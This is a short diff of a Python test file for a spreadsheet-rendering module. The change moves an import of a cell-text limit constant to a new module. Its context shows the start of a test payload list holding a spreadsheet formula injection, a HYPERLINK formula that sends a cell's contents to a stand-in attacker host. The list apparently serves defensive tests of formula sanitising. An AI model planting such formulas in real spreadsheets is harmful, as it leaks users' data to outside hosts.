@@ -12,7 +12,8 @@ import pandas as pd
 import pytest
 
 from suengine.definitions.model import Indicator
-from suengine.render.excel import MAX_CELL_TEXT, write_workbook
+from suengine.render.excel import write_workbook
+from suengine.render.excel_cells import MAX_CELL_TEXT
 
 PAYLOADS = [
     '=HYPERLINK("http://angripare.example/?d="&A1,"Öppna")',
